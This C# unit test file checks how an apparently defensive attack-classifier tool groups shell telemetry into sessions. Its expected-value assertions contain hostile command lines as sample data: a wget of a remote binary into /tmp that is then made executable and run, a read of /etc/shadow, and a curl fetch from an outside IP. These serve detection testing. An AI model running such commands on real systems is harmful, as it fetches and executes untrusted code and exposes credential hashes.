using AttackClassifier.Sessions;
using AttackClassifier.Telemetry;

namespace AttackClassifier.Tests.Sessions;

public class SessionReaderTests
{
    internal static string FixturePath(string name) => Path.Combine(AppContext.BaseDirectory, "Fixtures", "Sessions", name);

    private static TelemetryRecord R(long line, string command, string? host = "h", string? user = "u", string? time = null) =>
        new() { LineNumber = line, CommandLine = command, Host = host, User = user, Timestamp = time };

    private static List<SessionItem> Read(IEnumerable<TelemetryRecord> records, SessionOptions? options = null) =>
        [.. SessionReader.Read(records, options ?? new SessionOptions(), "input.log")];

    [Fact]
    public void Ecs_events_group_by_the_session_field_and_bad_lines_become_error_items()
    {
        using FileStream file = File.OpenRead(FixturePath("sessions-ecs.ndjson"));
        var items = Read(TelemetryReader.Read(file, new TelemetryReaderOptions { Format = TelemetryFormat.Ecs }),
                         new SessionOptions { SessionField = "process.session_leader.entity_id" });
        Assert.Equal([6L, 7L], items.Where(i => i.Error is not null).Select(i => i.Error!.LineNumber));
        SessionWindow[] sessions = [.. items.Select(i => i.Window).OfType<SessionWindow>()];
        Assert.Equal(["L1", "L2"], sessions.Select(s => s.SessionId));
        SessionWindow l1 = sessions[0];
        Assert.Equal(["id", "cat /proc/cpuinfo", "grep name", "wc -l", "wget http://203.0.113.9/x -O /tmp/x", "chmod +x /tmp/x", "/tmp/x"], l1.Statements.Select(s => s.Text));
        Assert.Equal([0, 1, 1, 1, 2, 2, 2], l1.Statements.Select(s => s.CommandIndex));
        Assert.Equal([0, 0, 1, 2, 0, 1, 2], l1.Statements.Select(s => s.StatementIndex));
        Assert.Equal("cat /proc/cpuinfo | grep name | wc -l", l1.Statements[2].Command);   // each statement keeps its command
        Assert.Equal(["web-01"], l1.Hosts);
        Assert.Equal(["www-data"], l1.Users);
        Assert.Equal(["psql -c 'select 1'", "pg_dump app > /var/backups/app.sql"], sessions[1].Statements.Select(s => s.Text));
    }

    [Fact]
    public void Auditd_events_group_by_ses_and_a_malformed_record_is_an_error_item()
    {
        using FileStream file = File.OpenRead(FixturePath("sessions-audit.log"));
        var items = Read(TelemetryReader.Read(file, new TelemetryReaderOptions { Format = TelemetryFormat.Auditd }), new SessionOptions { SessionField = "ses" });
        Assert.Single(items, i => i.Error is not null);
        SessionWindow[] sessions = [.. items.Select(i => i.Window).OfType<SessionWindow>()];
        Assert.Equal(["7", "8"], sessions.Select(s => s.SessionId));
        Assert.Equal(["whoami", "cat /etc/shadow", "sh -c curl -s http://203.0.113.5/k", "sh"], sessions[0].Statements.Select(s => s.Text));
        Assert.Equal(["alice"], sessions[0].Users);
        Assert.Equal(DateTimeOffset.FromUnixTimeMilliseconds(1767600000100), sessions[0].Statements[0].Time);
    }

    [Fact]
    public void Host_and_user_sessions_split_at_an_idle_gap_and_close_when_the_clock_passes_it()
    {
        var items = Read(
        [
            R(1, "id", time: "2026-01-01T10:00:00Z"),
            R(2, "uname -a", time: "2026-01-01T10:20:00Z"),
            R(3, "whoami", host: "other", time: "2026-01-01T10:21:00Z"),
            R(4, "ls", time: "2026-01-01T11:00:01Z"),   // 40 min after line 2: a new session; line 3's session expires too
        ], new SessionOptions { IdleGap = TimeSpan.FromMinutes(30) });
        SessionWindow[] sessions = [.. items.Select(i => i.Window!)];
        Assert.Equal(["h/u#L1", "other/u#L3", "h/u#L4"], sessions.Select(s => s.SessionId));
        Assert.Equal(["id", "uname -a"], sessions[0].Statements.Select(s => s.Text));
    }

    [Fact]
    public void Statements_are_ordered_by_time_then_input_order_and_an_untimed_one_follows_its_predecessor()
    {
        var items = Read(
        [
            R(1, "b1; b2", time: "2026-01-01T10:00:05Z"),
            R(2, "a", time: "2026-01-01T10:00:01Z"),
            R(3, "c"),                                   // no time: sorts with line 2's time, after it
            R(4, "d", time: "2026-01-01T10:00:05Z"),   // the same time as line 1: input order
        ]);
        Assert.Equal(["a", "c", "b1", "b2", "d"], Assert.Single(items).Window!.Statements.Select(s => s.Text));
    }

    [Fact]
    public void Without_host_or_user_the_whole_input_is_one_session_named_after_it()
    {
        var items = Read([R(1, "a; b", host: null, user: null), R(2, "c", host: null, user: null)]);
        SessionWindow only = Assert.Single(items).Window!;
        Assert.Equal("input.log", only.SessionId);
        Assert.Equal(["a", "b", "c"], only.Statements.Select(s => s.Text));
    }

    [Theory]
    [InlineData(1, 10, 0)]
    [InlineData(25, 10, 3)]
    [InlineData(30, 10, 0)]
    [InlineData(31, 10, 10)]
    [InlineData(7, 3, 2)]
    public void A_long_session_is_written_in_parts_that_cover_it_once_with_overlapping_context(int statements, int max, int overlap)
    {
        var records = Enumerable.Range(0, statements).Select(i => R(i + 1, $"cmd{i}")).ToArray();
        var parts = Read(records, new SessionOptions { MaxStatements = max, Overlap = overlap, MaxHeldStatements = max + 2 * overlap + 1 }).Select(i => i.Window!).ToArray();
        Assert.Equal(records.Select(r => r.CommandLine), parts.SelectMany(p => p.Statements).Select(s => s.Text));   // every statement once, in order
        Assert.Equal(Enumerable.Range(1, parts.Length), parts.Select(p => p.Part));
        Assert.All(parts, p => Assert.InRange(p.Statements.Count, 1, max));
        Assert.True(parts[^1].IsLastPart);
        Assert.All(parts[..^1], p => Assert.False(p.IsLastPart));
        for (int k = 1; k < parts.Length; k++)
        {
            Assert.Equal(parts[k - 1].Statements.TakeLast(overlap).Select(s => s.Text), parts[k].Before.Select(s => s.Text));
            Assert.Equal(parts[k].Statements.Take(overlap).Select(s => s.Text), parts[k - 1].After.Select(s => s.Text));
        }
    }

    [Fact]
    public void The_open_session_bound_closes_the_least_recently_active_session()
    {
        var items = Read([R(1, "a", user: "u1"), R(2, "b", user: "u2"), R(3, "c", user: "u1"), R(4, "d", user: "u3")],
                         new SessionOptions { MaxOpenSessions = 2 });
        // Opening u3 pushes out u2 (u1 was active more recently); the rest close at the end in order of first record.
        Assert.Equal(["h/u2#L2", "h/u1#L1", "h/u3#L4"], items.Select(i => i.Window!.SessionId));
        Assert.Equal(["a", "c"], items[1].Window!.Statements.Select(s => s.Text));
    }

    [Theory]
    [InlineData("1700000000", 1700000000000L)]
    [InlineData("1700000000.25", 1700000000250L)]
    [InlineData("2023-11-14T22:13:20Z", 1700000000000L)]
    [InlineData("2023-11-14 22:13:20.000", 1700000000000L)]   // Sysmon UtcTime: no offset means UTC
    [InlineData("2023-11-15T00:13:20+02:00", 1700000000000L)]
    public void Timestamps_are_read_as_utc(string text, long unixMilliseconds) =>
        Assert.Equal(DateTimeOffset.FromUnixTimeMilliseconds(unixMilliseconds), SessionTime.Parse(text));

    [Theory]
    [InlineData(null)]
    [InlineData("")]
    [InlineData("yesterday")]
    [InlineData("99999999999999999999")]
    public void Unreadable_timestamps_are_null(string? text) => Assert.Null(SessionTime.Parse(text));

    [Fact]
    public void Options_out_of_range_are_rejected_before_reading()
    {
        Assert.Throws<ArgumentOutOfRangeException>(() => SessionReader.Read([], new SessionOptions { IdleGap = TimeSpan.Zero }, "x"));
        Assert.Throws<ArgumentOutOfRangeException>(() => SessionReader.Read([], new SessionOptions { MaxStatements = 5, Overlap = 6 }, "x"));
        Assert.Throws<ArgumentException>(() => SessionReader.Read([], new SessionOptions { SessionField = " " }, "x"));
    }
}
